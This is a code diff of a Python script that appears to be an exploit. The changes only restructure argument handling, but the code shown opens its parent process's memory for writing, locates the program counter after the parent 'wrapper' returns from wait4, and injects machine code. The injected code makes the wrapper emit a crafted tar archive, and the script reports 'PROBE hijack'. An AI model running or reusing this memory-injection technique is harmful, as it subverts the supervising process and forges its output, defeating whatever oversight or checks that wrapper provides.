@@ -15,9 +15,6 @@ import struct
 import sys
 import tarfile
 
-ACTION = sys.argv[1]
-TARGET = sys.argv[2] if len(sys.argv) > 2 else "/tmp"
-
 
 def crafted(target):
     comp, steps = "d" * 247, "abcdefghijklmnop"
@@ -41,7 +38,7 @@ def crafted(target):
     return buffer.getvalue()
 
 
-def main():
+def main(action, target):
     parent = os.getppid()
     try:
         fd = os.open(f"/proc/{parent}/mem", os.O_RDWR)
@@ -49,9 +46,9 @@ def main():
         print(f"PROBE mem: refused ({exc.strerror})", flush=True)
         sys.exit(3)
     print("PROBE mem: writable", flush=True)
-    if ACTION == "probe":
+    if action == "probe":
         sys.exit(3)
-    payload = crafted(TARGET)
+    payload = crafted(target)
     with open(f"/proc/{parent}/syscall") as syscall:
         pc = int(syscall.read().split()[-1], 16)  # just after the wrapper's wait4
     # lea rsi,[rip+41]; mov rdx,len; again: write(1, rsi, rdx); jle done; rsi+=rax; rdx-=rax; jnz again;
@@ -63,4 +60,5 @@ def main():
     print(f"PROBE hijack: the wrapper sends {len(payload)} bytes of mine", flush=True)
 
 
-main()
+if __name__ == "__main__":
+    main(sys.argv[1], sys.argv[2] if len(sys.argv) > 2 else "/tmp")
